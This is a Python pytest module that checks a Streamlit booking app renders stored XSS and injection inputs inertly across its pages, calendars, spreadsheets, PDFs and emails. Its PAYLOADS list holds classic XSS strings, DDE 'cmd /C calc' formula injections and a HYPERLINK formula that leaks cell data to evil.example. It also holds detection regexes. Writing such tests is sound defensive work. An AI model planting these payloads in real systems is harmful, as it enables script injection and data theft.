"""Classic XSS and injection payloads typed into every text field a person can fill (venue,
request, contact, closure reason, decision reasons, kit notes, feed name, account name,
visitor comment, stop report) are stored through the services, then every page is rendered
with AppTest for every role and every export is read back. They must stay inert:

- Streamlit pages: no Markdown element is ever given unsafe HTML; a payload reaches Markdown
  (text, headings, captions, alerts, labels, radio options, tabs, toasts) only escaped, and
  only plain-text elements (text, code, tables, input values, selectbox options) show it as
  typed;
- the visitor form (plain HTML): never a raw `<script`, attribute or tag from a payload;
- .ics feeds: the text comes back as typed from a calendar parser, no property injected, no
  HTML description, links are http(s) only;
- CSV and XLSX: never a cell a spreadsheet would run as a formula;
- PDFs: no script, launch action or link injected;
- emails: plain text only, no header injected.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import icalendar
import pytest
from google.protobuf.message import Message
from openpyxl import load_workbook
from sqlmodel import select
from starlette.applications import Starlette
from starlette.testclient import TestClient
from streamlit.testing.v1 import AppTest

from booking import db
from booking.calendars import export_calendar
from booking.calendars.feeds import create_feed
from booking.documents import stop_document
from booking.feedback.dashboard import Filters, clear_read_models
from booking.feedback.exports import export_bytes
from booking.feedback.posters import poster
from booking.feedback.questionnaire import clear_cache
from booking.feedback.reports import ReportInput, submit_stop_report
from booking.feedback.submit import local_today, questionnaire_for_form, submit_response
from booking.models import BookingRequest, Exhibition, Kit, KitPart, OutboxMessage, Role, Venue
from booking.notifications import build_email
from booking.planning.db_season import list_van_days, plan_van_days, van_day_sheet
from booking.planning.route_sheet import route_sheet_pdf
from booking.services.accounts import add_user
from booking.services.bookings import approve_request
from booking.services.kits import set_kit_condition, set_part_condition
from booking.services.requests import (
    ContactInput,
    RequestDetails,
    RequestInput,
    VenueInput,
    cancel_request,
    candidate_placements,
    decline_request,
    earliest_start,
    paris_today,
    submit_request,
)
from booking.services.venues import add_closure
from booking.ui.nav import pages_for
from booking.web.feedback_form import ROUTES as FORM_ROUTES
from booking.web.feedback_form import _reset_limits_for_tests
from tests.factories import make_request, make_stop, world

ROOT = Path(__file__).resolve().parent.parent
ACTOR = "user:staff@example.org"

# Classic payloads (OWASP's XSS filter evasion sheet, formula injection, Streamlit's own
# Markdown extensions); each carries its number so a finding says which field it came from.
PAYLOADS = [
    "<script>alert('x1')</script>",
    '"><img src=x onerror=alert("x2")>',
    "<svg/onload=alert('x3')>",
    "[x4](javascript:alert('x4'))",
    "<iframe src=\"javascript:alert('x5')\"></iframe>",
    "</textarea><script>alert('x6')</script>",
    "<a href=\"javascript:alert('x7')\">x7</a>",
    '=HYPERLINK("http://evil.example/?d="&A1,"x8")',
    "+cmd|' /C calc'!A0 x9",
    "@SUM(1+1)*cmd|' /C calc'!A0 x10",
    "-2+3+cmd|' /C calc'!A0 x11",
    ":red[x12] :material/warning: $x^2$ **x12** {{7*7}}",
    "<style>*{display:none}</style>x13",
    '<body onload=alert("x14")>',
]
SHORT = "<b onmouseover=alert(1)>x15</b>"  # fields of 30 to 60 characters
# A payload that must never reach HTML or Markdown as typed: any of these.
# (Not preceded by a backslash: escaped, Markdown shows the character itself.)
DANGEROUS = re.compile(
    r"(?<!\\)<\s*(script|img|svg|iframe|a\s|style|body|b\s|/textarea)"
    r"|(?<!\\)\]\(javascript:|(?<!\\):red\[",
    re.I,
)


def payload(n: int, limit: int = 300) -> str:
    text = PAYLOADS[n % len(PAYLOADS)]
    return text[:limit]


@dataclass
class Stored:
    venue_id: int
    approved_request: int
    declined_request: int
    cancelled_request: int
    open_stop_id: int
    open_stop_feedback_token: str
    open_stop_link_token: str
    approved_link_token: str
    approved_stop_id: int
    kit_id: int
    van_id: int


def _request(venue: VenueInput, n: int, first: dt.date, email: str) -> RequestInput:
    return RequestInput(
        exhibition_id=1,
        venue=venue,
        details=RequestDetails(
            contact=ContactInput(
                name=payload(n + 1, 120),
                role=payload(n + 2, 120),
                email=email,
                phone="04 72 00 00 00",
            ),
            windows=[(first, first + dt.timedelta(days=120))],
            stay_min_days=14,
            stay_max_days=21,
            hanging_surface=payload(n + 3),
            hanging_length_m=12.0,
            access_notes=payload(n + 4),
            expected_audience=payload(n + 5),
            mediation=payload(n + 6),
            message=payload(n + 7),
        ),
        floor=SHORT,
        van_parking=payload(n + 8),
        has_lift=True,
    )


def store_payloads() -> Stored:
    """Every free-text field filled with payloads, through the services the pages call."""
    today = paris_today()
    first = earliest_start(today) + dt.timedelta(days=14)
    with db.transaction() as session:
        w = world(session)
        kit_id, van_id = w.kits[0].id, w.van.id
        assert w.exhibition.id == 1 and kit_id is not None and van_id is not None
        part_id = session.exec(select(KitPart.id).where(KitPart.kit_id == kit_id)).first()
        assert part_id is not None
    new_venue = VenueInput(
        name=payload(0, 200),
        type="library",
        address=payload(1, 300),
        postcode="69003",
        commune="Lyon",
        open_weekdays=[1, 2, 3, 4, 5],
    )
    approved = submit_request(_request(new_venue, 0, first, "a@example.org"))
    venue_id = _venue_of(approved.request_id)
    existing = VenueInput(id=venue_id)
    declined = submit_request(_request(existing, 3, first, "b@example.org"))
    cancelled = submit_request(_request(existing, 6, first, "c@example.org"))
    stop = approve_request(
        approved.request_id, candidate_placements(approved.request_id)[0].placement, actor=ACTOR
    )
    other = approve_request(
        cancelled.request_id, candidate_placements(cancelled.request_id)[0].placement, actor=ACTOR
    )
    assert other is not None
    decline_request(declined.request_id, payload(9, 2000), actor=ACTOR)
    cancel_request(cancelled.request_id, payload(10, 2000), actor=ACTOR)
    add_closure(
        venue_id, first + dt.timedelta(days=200), first + dt.timedelta(days=201), payload(11),
        actor=ACTOR,
    )  # fmt: skip
    set_kit_condition(kit_id, "damaged", payload(12, 2000), actor=ACTOR)
    set_part_condition(part_id, "damaged", payload(13, 1000), actor=ACTOR)
    create_feed(name=payload(0, 120), view="all", actor=ACTOR)
    add_user(
        email="xss-admin@example.org",
        display_name=payload(1, 120),
        role="admin",
        password="correct horse battery",
    )
    plan_van_days(actor=ACTOR)
    # A stop on show today (built directly: the services place stops in the future), so a
    # visitor can comment and the venue can report on it.
    local = local_today()
    with db.transaction() as session:
        other_kit = session.get(Kit, w.kits[1].id)
        exhibition = session.get(Exhibition, 1)
        venue = session.get(Venue, venue_id)
        assert other_kit is not None and exhibition is not None and venue is not None
        request, link_token = make_request(session, exhibition, venue)
        open_stop = make_stop(
            session, request, other_kit, local - dt.timedelta(days=3), local + dt.timedelta(days=10)
        )
        open_stop_id, feedback_token = open_stop.id, open_stop.feedback_token
    assert open_stop_id is not None
    version = str(questionnaire_for_form().version)
    submit_response(
        feedback_token,
        {"v": [version], "rating": ["4"], "came_with": ["alone"], "comment": [payload(2, 500)]},
    )
    submit_stop_report(
        link_token,
        ReportInput(
            visitors_total=120,
            incidents=payload(3, 4000),
            comments=payload(4, 4000),
        ),
    )
    assert stop.id is not None
    return Stored(
        venue_id=venue_id,
        approved_request=approved.request_id,
        declined_request=declined.request_id,
        cancelled_request=cancelled.request_id,
        open_stop_id=open_stop_id,
        open_stop_feedback_token=feedback_token,
        open_stop_link_token=link_token,
        approved_link_token=approved.token,
        approved_stop_id=stop.id,
        kit_id=kit_id,
        van_id=van_id,
    )


def _venue_of(request_id: int) -> int:
    with db.read_session() as session:
        request = session.get(BookingRequest, request_id)
        assert request is not None
        return request.venue_id


@pytest.fixture(scope="module")
def stored(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stored]:
    """One database for the module: the payloads are stored once, every check reads them."""
    monkeypatch = pytest.MonkeyPatch()
    path = tmp_path_factory.mktemp("xss") / "tournee.db"
    url = f"sqlite:///{path}"
    monkeypatch.setenv("DATABASE_URL", url)
    monkeypatch.setenv("TOURNEE_JOBS_IN_APP", "0")
    from booking.config import reset_settings

    reset_settings()
    db.upgrade(url)
    clear_cache()
    clear_read_models()
    try:
        yield store_payloads()
    finally:
        db.dispose_engines()
        monkeypatch.undo()
        reset_settings()
        clear_cache()
        clear_read_models()


# ---------------------------------------------------------------------------- pages

# Fields Streamlit shows as plain characters (never Markdown): a payload may appear as typed.
PLAIN_FIELDS = {
    ("Text", "body"),
    ("Code", "code_text"),
    ("Selectbox", "options"),
    ("Selectbox", "raw_values"),
    ("Selectbox", "default"),
    ("MultiSelect", "options"),
    ("MultiSelect", "raw_values"),
    ("MultiSelect", "default"),
    ("TextInput", "default"),
    ("TextInput", "value"),
    ("TextArea", "default"),
    ("TextArea", "value"),
    # Vega draws data as text (SVG/canvas); its tooltips escape HTML (vega-tooltip's sanitize)
    ("VegaLiteChart", "spec"),
    ("Exception", "message"),
    ("Exception", "stack_trace"),
}


# The one st.html the app may hold: the shell declaring the page's language (no user data).
LANG_SCRIPT = re.compile(r'<script>document\.documentElement\.lang = "(fr|en)";</script>')


def _strings(message: Message, prefix: str = "") -> Iterator[tuple[str, str, str]]:
    """(proto type, field, text) for every string in a protobuf message, recursively."""
    kind = type(message).__name__
    for field, value in message.ListFields():
        name = field.name
        repeated = (
            field.is_repeated
            if hasattr(field, "is_repeated")
            else field.label == field.LABEL_REPEATED
        )
        if field.type == field.TYPE_MESSAGE:
            items = value if repeated else [value]
            for item in items:
                if isinstance(item, Message):
                    yield from _strings(item, f"{prefix}{name}.")
        elif field.type == field.TYPE_STRING:
            items = value if repeated else [value]
            for item in items:
                yield kind, name, item


def shown_payloads(at: AppTest) -> int:
    """How many texts of the page carry a payload (escaped or not): the page did show them."""
    return sum(
        "alert" in text
        for node in at._tree
        if isinstance(getattr(node, "proto", None), Message)
        for _kind, _field, text in _strings(node.proto)
    )


def page_findings(at: AppTest, where: str) -> list[str]:
    """What a rendered page gives Streamlit that is not inert."""
    findings = []
    for node in at._tree:
        proto = getattr(node, "proto", None)
        if not isinstance(proto, Message):
            continue
        if type(proto).__name__ == "Markdown" and getattr(proto, "allow_html", False):
            findings.append(f"{where}: unsafe HTML allowed in Markdown: {proto.body[:80]!r}")
        if type(proto).__name__ == "Html" and not LANG_SCRIPT.fullmatch(proto.body):
            findings.append(f"{where}: st.html given {proto.body[:80]!r}")
        for kind, field, text in _strings(proto):
            if (kind, field) in PLAIN_FIELDS or kind == "Html":
                continue
            match = DANGEROUS.search(text)
            if match:
                findings.append(f"{where}: {kind}.{field} holds {text[:100]!r}")
    return findings


def _select_payload_items(at: AppTest, rounds: int = 4) -> AppTest:
    """Open the items that carry payloads: pick, in each selectbox, the option that shows
    one (a venue, a kit, a message…), as staff would, and render again."""
    for _ in range(rounds):
        changed = False
        for box in at.selectbox:
            options = list(box.options)
            hits = [i for i, option in enumerate(options) if DANGEROUS.search(option)]
            if hits and (box.index is None or box.index not in hits):
                box.select_index(hits[0])
                changed = True
                break
        if not changed:
            return at
        at.run()
    return at


def _user(role: Role) -> int:
    from booking.services.accounts import list_users

    for user in list_users():
        if user.role == role and user.email.startswith(f"xss-{role.value}"):
            return user.id
    return add_user(
        email=f"xss-{role.value}@example.org",
        display_name=f"Compte {role.value}",
        role=role.value,
        password="correct horse battery",
    ).id


ROLES: list[Role | None] = [None, Role.staff, Role.tuba, Role.admin]


@pytest.mark.parametrize("role", ROLES, ids=["visitor", "staff", "tuba", "admin"])
def test_every_page_shows_the_payloads_inert(stored: Stored, role: Role | None) -> None:
    findings: list[str] = []
    rendered = shown = 0
    for spec in pages_for(role):
        queries: list[dict[str, str]] = [{}]
        if spec.url_path in ("ma-demande", "rapport"):
            queries = [
                {"token": stored.approved_link_token},
                {"token": stored.open_stop_link_token},
            ]
        if spec.url_path == "demandes":
            queries = [
                {"id": str(i)}
                for i in (
                    stored.approved_request,
                    stored.declined_request,
                    stored.cancelled_request,
                )
            ]
        for query in queries:
            at = AppTest.from_file(str(ROOT / "streamlit_app.py"), default_timeout=60)
            if role is not None:
                at.session_state["user_id"] = _user(role)
            at.run()
            for key, value in query.items():
                at.query_params[key] = value
            at.switch_page(spec.path).run()
            assert not at.exception, (spec.path, [e.value for e in at.exception])
            _select_payload_items(at)
            assert not at.exception, (spec.path, [e.value for e in at.exception])
            findings += page_findings(at, f"{spec.url_path} {query}")
            shown += shown_payloads(at)
            rendered += 1
    assert rendered >= len(pages_for(role))
    assert shown >= 5, "the pages did show the stored payloads"
    assert not findings, "\n".join(findings)


def test_the_shell_shows_the_account_name_inert(stored: Stored) -> None:
    """The whole app (sidebar included) for the account whose display name is a payload."""
    at = AppTest.from_file(str(ROOT / "streamlit_app.py"), default_timeout=60)
    from booking.services.accounts import list_users

    admin = next(u for u in list_users() if u.email == "xss-admin@example.org")
    at.session_state["user_id"] = admin.id
    at.run()
    assert not at.exception
    assert not page_findings(at, "sidebar"), page_findings(at, "sidebar")


def test_a_payload_does_not_break_out_of_markdown_when_escaped() -> None:
    """The check above would see a payload that reached Markdown as typed (it can fail)."""
    at = AppTest.from_string(
        "import streamlit as st\n"
        "from booking.ui.text import plain\n"
        f"st.markdown(plain({PAYLOADS[0]!r}))\n"
        f"st.caption({PAYLOADS[3]!r})\n"
    )
    at.run()
    findings = page_findings(at, "probe")
    assert len(findings) == 1 and "x4" in findings[0]


# ---------------------------------------------------------------------------- the visitor form


def test_the_visitor_form_escapes_what_it_shows(stored: Stored) -> None:
    _reset_limits_for_tests()
    with TestClient(Starlette(routes=FORM_ROUTES)) as client:
        page = client.get(f"/f/{stored.open_stop_feedback_token}")
    assert page.status_code == 200
    html = page.text
    assert "&lt;script&gt;alert(" in html  # the venue's name, shown as typed
    assert "<script" not in html.lower()  # the form has no script of its own either
    for text in PAYLOADS:
        assert text not in html, text


# ---------------------------------------------------------------------------- exports


def _ics_views(stored: Stored) -> list[str]:
    return [
        "all",
        "tuba",
        f"venue:{stored.venue_id}",
        f"kit:{stored.kit_id}",
        f"van:{stored.van_id}",
        f"stop:{stored.approved_stop_id}",
    ]


def test_calendars_carry_the_text_as_typed_and_nothing_more(stored: Stored) -> None:
    seen = ""
    for view in _ics_views(stored):
        data = export_calendar(view)
        assert b"X-ALT-DESC" not in data and b"text/html" not in data.lower()
        calendar = icalendar.Calendar.from_ical(data)
        for event in calendar.walk("VEVENT"):
            allowed = {
                "UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY", "DESCRIPTION", "LOCATION",
                "GEO", "URL", "SEQUENCE", "STATUS", "LAST-MODIFIED", "TRANSP", "CATEGORIES",
                "CLASS", "CREATED",
            }  # fmt: skip
            assert set(event.keys()) <= allowed, (view, set(event.keys()) - allowed)
            if "URL" in event:
                assert str(event["URL"]).startswith(("http://", "https://"))
            seen += str(event.get("SUMMARY", "")) + str(event.get("DESCRIPTION", ""))
            seen += str(event.get("LOCATION", ""))
    assert PAYLOADS[0] in seen  # the venue's name, as typed, read back by a calendar parser


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_spreadsheets_never_hold_a_formula(stored: Stored) -> None:
    texts = []
    for table in ("responses", "reports", "summary"):
        data = export_bytes(Filters(), "csv", table=table)
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"):
            for cell in row:
                texts.append(cell)
                assert not cell.startswith(FORMULA_START), (table, cell)
    workbook = load_workbook(io.BytesIO(export_bytes(Filters(), "xlsx")))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.startswith(FORMULA_START), (sheet.title, cell.value)
    joined = "\n".join(texts)
    assert PAYLOADS[2] in joined  # the visitor's comment is there, as text


PDF_ACTIVE = re.compile(rb"/(JavaScript|JS|Launch|SubmitForm|ImportData|RichMedia)\b|javascript:")


def test_pdfs_hold_no_script_or_link(stored: Stored) -> None:
    pdfs = {
        "loan agreement": stop_document(stored.approved_stop_id, "loan_agreement").data,
        "installation guide": stop_document(stored.approved_stop_id, "installation_guide").data,
        "poster": poster(stored.open_stop_id, "pdf")[0],
    }
    for row in list_van_days():
        pdfs[f"route sheet {row['date']}"] = route_sheet_pdf(van_day_sheet(row["id"]))
    assert any(name.startswith("route sheet") for name in pdfs)
    for name, data in pdfs.items():
        assert data.startswith(b"%PDF-"), name
        assert not PDF_ACTIVE.search(data), (name, PDF_ACTIVE.search(data))


def test_emails_are_plain_text_with_no_header_injected(stored: Stored) -> None:
    with db.read_session() as session:
        messages = list(session.exec(select(OutboxMessage)))
    assert len(messages) >= 4
    expected = {"From", "To", "Subject", "Date", "Message-ID", "Auto-Submitted"}
    for message in messages:
        email = build_email(message)
        headers = set(email.keys()) - {"Content-Type", "Content-Transfer-Encoding", "MIME-Version"}
        assert headers == expected, (message.kind, headers)
        assert "\n" not in str(email["Subject"]) and "\r" not in str(email["Subject"])
        types = {part.get_content_type() for part in email.walk()}
        assert "text/html" not in types, message.kind
    assert any(PAYLOADS[0] in m.subject for m in messages)  # the venue's name, as text
